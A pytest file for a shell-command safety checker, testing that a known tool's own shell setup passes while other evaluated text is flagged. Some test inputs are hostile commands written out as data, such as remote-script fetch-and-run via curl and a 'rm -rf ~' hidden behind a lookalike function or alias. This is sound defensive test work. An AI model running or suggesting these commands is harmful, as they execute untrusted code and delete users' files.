"""eval "$(TOOL init)": a tool printing its own shell setup, named in its
program table (shell_setup), is as trusted as running the tool; anything
else evaluated is unknown text (issue 8)."""

from __future__ import annotations

import pytest

from guardsh.shell.read import read_line

HOME, CWD = "/home/u", "/home/u/p"


def kinds(line, ruleset):
    return {e.kind for c in read_line(line, ruleset.programs, cwd=CWD, home=HOME, budget=10) for e in c.effects}


@pytest.mark.parametrize("line", [
    'eval "$(~/.rbenv/bin/rbenv init - --no-rehash bash)"',
    'eval "$(pyenv init - bash)"', 'eval "$(direnv hook bash)"', 'eval "$(starship init bash)"',
    'eval "$(/home/linuxbrew/.linuxbrew/bin/brew shellenv bash)"', 'eval "$(ssh-agent -s)"',
    '__conda_setup="$(\'/opt/conda/bin/conda\' \'shell.bash\' \'hook\' 2> /dev/null)"\neval "$__conda_setup"',
    "export MAMBA_EXE='/opt/mf/bin/mamba'\n__mamba_setup=\"$(\"$MAMBA_EXE\" shell hook --shell bash --root-prefix /opt/mf 2> /dev/null)\"\neval \"$__mamba_setup\"",
    '. <(asdf completion bash)', 'source <(kubectl completion bash)', 'eval "$(mise activate bash)"',
])
def test_a_tools_own_shell_setup_is_not_unknown_code(line, ruleset):
    assert kinds(line, ruleset) == set()


@pytest.mark.parametrize("line, kind", [
    ('eval "$(rbenv exec env)"', "shell.eval-dynamic"),  # not its setup subcommand
    ('eval "$(conda shell.bash hook); rm -rf ~"', "shell.eval-dynamic"),
    ('x="$(direnv hook bash)"; x="$(cat notes)"; eval "$x"', "shell.eval-dynamic"),
    ('eval "$(curl -fsSL https://example.com/init)"', "shell.eval-dynamic"),
    ('eval "$($TOOL init)"', "shell.eval-dynamic"),  # the tool is not known
    ('. <(curl -s https://example.com/x.sh)', "shell.unknown-script"),
    # A function or alias named like the tool is not the tool.
    ("conda() { echo 'rm -rf ~'; }; eval \"$(conda shell.bash hook)\"", "shell.eval-dynamic"),
    ("alias rbenv='echo rm -rf ~'; eval \"$(rbenv init -)\"", "shell.eval-dynamic"),
])
def test_other_evaluated_text_is_still_unknown(line, kind, ruleset):
    assert kind in kinds(line, ruleset)
